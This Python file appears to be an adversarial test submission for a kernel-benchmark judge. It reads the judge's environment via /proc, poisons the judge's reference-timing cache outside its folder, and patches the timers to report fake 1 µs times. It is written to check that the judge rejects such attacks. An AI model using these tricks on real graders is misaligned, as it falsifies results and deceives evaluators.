"""Writes outside its folder: poisons the judge's reference-timing cache, then lies about its times.

Class: writing outside the working folder (poisoning the judge's reference-timing cache)
Expected: error|rejected

The judge used to cache the reference's timings per problem revision, device and mode, the
denominators of every speedup, in its cache folder (``KERNELRANK_CACHE_DIR`` in the judge's
environment, or ``~/.cache/kernelrank`` of the judge's home); since issue 14 the reference is timed
in the same run as the submission and no cache feeds any figure. The attack still tries what
worked against a cache: on loading, it finds the judge's cache folder and writes entries for every
benchmark case with a huge reference time and a huge per-call overhead, then claims 1 µs per call.
The kernel is honest, so every output is right. If it cannot write any such folder it raises.

A working defence keeps everything outside the child's folder read-only or invisible to it (a
mount namespace, another user), so the write fails; and nothing of the judge's is read back from
where a submission could have written.
"""

import os
from pathlib import Path

import torch

import kernelrank.runner.timing as _timing

_HUGE = 1e15


def _judge_environ():
    """The judge's (the parent's) environment, through ``/proc``."""
    try:
        raw = open(f"/proc/{os.getppid()}/environ", "rb").read()
    except OSError:
        return {}
    return dict(kv.decode(errors="replace").partition("=")[::2] for kv in raw.split(b"\0") if b"=" in kv)


def _cache_roots():
    roots = []
    env = _judge_environ()
    if env.get("KERNELRANK_CACHE_DIR"):
        roots.append(Path(env["KERNELRANK_CACHE_DIR"]))
    if env.get("HOME"):
        roots.append(Path(env["HOME"]) / ".cache" / "kernelrank")
    return [r for r in dict.fromkeys(roots) if r.is_dir()]


def _poison():
    import hashlib
    import json

    from kernelrank.problems import load_problem

    problem = load_problem("gemm")
    entries = {}
    for device in ("cpu", "cuda"):
        for case in problem.definition.benchmark_cases(device):
            key = json.dumps(case.params, sort_keys=True, separators=(",", ":"))
            entries[key] = {"mean_ns": _HUGE, "overhead_ns": _HUGE, "main_overhead_ns": _HUGE}
    poisoned = []
    for root in _cache_roots():
        for mode in ("leaderboard", "benchmark"):
            name = hashlib.sha256(f"{problem.revision}|{mode}".encode()).hexdigest()[:32]
            try:
                (root / "reference").mkdir(exist_ok=True)
                (root / "reference" / f"{problem.revision[:16]}-{mode}-{name}.json").write_text(json.dumps(entries))
                poisoned.append(str(root))
            except OSError:
                pass
    return sorted(set(poisoned))


_done = _poison()
if not _done:
    raise RuntimeError("no reference cache of the judge is writable from here")
print(f"[attack] poisoned the reference cache in {_done}", flush=True)


def _lying(self, fn, data):
    return fn(data), 1000


for _cls in (getattr(_timing, "CpuTimer", None), getattr(_timing, "CudaTimer", None)):
    if _cls is not None:
        _cls.time_call = _lying


def custom_kernel(data):
    a, b = data
    return torch.mm(a, b)
